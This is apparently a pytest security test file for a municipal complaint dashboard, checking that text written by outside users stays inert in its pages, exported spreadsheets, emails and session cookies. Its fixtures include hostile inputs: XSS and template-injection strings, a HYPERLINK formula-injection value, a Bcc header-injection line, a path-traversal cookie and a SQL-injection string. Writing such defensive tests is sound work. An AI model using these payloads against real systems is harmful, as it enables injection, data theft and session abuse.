"""What somebody outside wrote is words on every page that shows it, in every file, and in every message."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from datetime import timedelta
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from dashboard.app import App
from dashboard.auth.visitor import COOKIE
from dashboard.mail.message import compose
from dashboard.messages.wording import Wording
from data import clock
from data.domain.access.roles import Role
from data.domain.cases.model import ActorKind, CaseEvent, EventKind
from data.domain.cases.tracking_code import code_of, shown
from data.store.cases import cases
from data.store.cases.cases import Reporter
from data.store.citizens import outbox, tracking
from data.store.db.engine import reading, writing
from tests.dashboard.conftest import a_session, logged_in
from tests.dashboard.messages.receivers import a_message
from tests.dashboard.web.conftest import Desk
from tests.factories import NOW, a_case, a_city, received, stored, terms_for

MINUTE = timedelta(minutes=1)
ALERT = "<script>alert(1)</script>"
HOSTILE = f"{ALERT}\"'><img src=x onerror=alert(2)><a href=javascript:alert(3)>{{{{7*7}}}}{{title}}&lt;b&gt;"
FORMULA = '=HYPERLINK("http://x.test/"&A1)'
TRACKING = shown(code_of(777))


class Elements(HTMLParser):
    """The elements of a page that are not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        ours = tag != "script" or (values.get("src") or "").startswith("/")
        handlers = [name for name in values if name.startswith("on")]
        links = [value for name, value in attrs if name in {"href", "src", "action"} and value]
        strange = [each for each in links if each.lower().startswith("javascript:") or each == "x"]
        if not ours or handlers or strange:
            self.foreign.append(f"<{tag} {values}>")


def foreign(page: str) -> list[str]:
    found = Elements()
    found.feed(page)
    return found.foreign


@pytest.fixture
def code(app: App) -> str:
    """A case of DPUPR's, hostile wherever somebody outside writes: reporter, source, agency, operator."""
    at = clock.now().replace(microsecond=0) - 9 * MINUTE
    new = a_case(title=HOSTILE, text=HOSTILE, address=HOSTILE, reporter=Reporter(HOSTILE, HOSTILE, HOSTILE, lang="id"))
    told = [
        (EventKind.DISPATCHED, ActorKind.OPERATOR, {"agency": "dpupr", "text": HOSTILE}),
        (EventKind.NOTE, ActorKind.SYSTEM, {"text": HOSTILE}),
        (EventKind.ANSWERED, ActorKind.AGENCY, {"agency": "dpupr", "text": HOSTILE}),
        (EventKind.REJECTED, ActorKind.OPERATOR, {"reason": "not_ours", "authority": HOSTILE, "text": HOSTILE}),
        (EventKind.REOPENED, ActorKind.CITIZEN, {"agency": "dpupr", "text": HOSTILE}),
        (EventKind.RESOLVED, ActorKind.AGENCY, {"agency": "dpupr", "text": HOSTILE}),
        (EventKind.RATED, ActorKind.CITIZEN, {"reason": "not_solved", "text": HOSTILE}),
    ]
    events = [CaseEvent(at + n * MINUTE, kind, who, HOSTILE, **more) for n, (kind, who, more) in enumerate(told, 1)]  # type: ignore[arg-type]
    with writing(app.engine) as conn:
        case_id = stored(conn, new, [received(at)], at)
        tracking.add(conn, case_id, code_of(777))
        cases.append_events(conn, case_id, events, terms_for(new), clock.now())
        stored(conn, a_case(title=FORMULA, text=FORMULA), [received(at)], at)
    return new.code


def pages_of(app: App, code: str) -> Iterator[tuple[str, str]]:
    desk = Desk(app, logged_in(app, Role.SUPERVISOR))
    for path in (
        "/meja",
        f"/meja/{code}",
        f"/meja/cari?kata={code}",
        "/kinerja/laporan?pick=received:agency:dpupr&period=30d",
    ):
        yield path, desk.client.get(path).text
    yield "refused", desk.post(f"/meja/{code}", command="refuse", text=HOSTILE, authority=HOSTILE, seen="0").text
    agency = Desk(app, logged_in(app, Role.RESPONDER, "dpupr"))
    for path in ("/respon", f"/respon/{code}", f"/respon/{code}?untuk=answer&templat=diterima.id"):
        yield path, agency.client.get(path).text
    citizen = app.flask.test_client()
    for path in (f"/lapor/{TRACKING}", f"/lapor/{TRACKING}/nilai", "/lapor/<script>alert(1)<%2Fscript>"):
        yield path, citizen.get(path).text


def test_nothing_that_was_written_outside_becomes_an_element_of_a_page(app: App, code: str):
    seen = dict(pages_of(app, code))
    assert {path: found for path, page in seen.items() if (found := foreign(page))} == {}
    shown_on = [path for path, page in seen.items() if "&lt;script&gt;alert(1)" in page or "alert(1)" in page]
    assert {f"/meja/{code}", f"/respon/{code}", f"/lapor/{TRACKING}", "refused"} <= set(shown_on)
    assert "49" not in re.findall(r"[{ ]49[} ]", " ".join(seen.values()))


def test_an_element_that_is_not_ours_is_found():
    for page in (ALERT, '<img src="x">', '<p onclick="a()">', '<a href="JavaScript:x">', '<script src="http://x">'):
        assert len(foreign(page)) == 1, page
    assert foreign('<script src="/web/a.js" defer></script><a href="/meja">') == []


def test_no_cell_of_a_search_that_is_taken_along_is_a_formula_or_a_link(app: App, code: str):
    body = logged_in(app, Role.SUPERVISOR).get("/meja/cari.xlsx?kata=").data
    cells = [cell for sheet in load_workbook(io.BytesIO(body)) for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    values = [str(cell.value) for cell in cells if cell.value]
    assert any("HYPERLINK" in value for value in values)
    assert [value for value in values if value.startswith(("=", "+", "@", "\t"))] == []


def test_a_mail_has_the_words_of_an_agency_in_its_body_alone():
    words = Wording(a_city(), timedelta(days=14), "https://warga.example")
    evil = f"{HOSTILE}\r\nBcc: semua@x.test\r\n\r\n<html>"
    text = words.text(a_message(kind="answered", text=evil, agency="dpupr"))
    mail = compose("lapor@batu.example", "warga@example.id", text.subject, text.body, key="k", now=NOW)
    assert isinstance(mail, EmailMessage)
    assert mail["Bcc"] is None
    assert mail.get_content_type() == "text/plain"
    assert "Bcc: semua@x.test" in mail.get_content()
    assert "\n" not in text.body


def test_an_invented_session_is_not_taken_over_by_the_login_and_opens_nothing(app: App):
    for planted in ("penyerang", "x" * 500, "../../etc/passwd", "' OR 1=1 --", a_session(app)[:-1] + "x"):
        client = app.flask.test_client()
        client.set_cookie(COOKIE, planted)
        assert client.get("/akun").headers["Location"].startswith("/masuk")
        assert not client.get("/masuk").headers.getlist("Set-Cookie")
        assert client.get("/meja").status_code == 303


def test_every_message_that_such_a_case_causes_is_plain_text(app: App, code: str):
    words = Wording(a_city(), timedelta(days=14), "https://warga.example")
    with reading(app.engine) as conn:
        found = outbox.due(conn, clock.now() + 60 * MINUTE, [outbox.EMAIL, outbox.WEBHOOK], 99, dead_blocks=False)
    assert found
    for message in found:
        text = words.text(message)
        assert "\n" not in text.subject
        assert HOSTILE not in text.subject
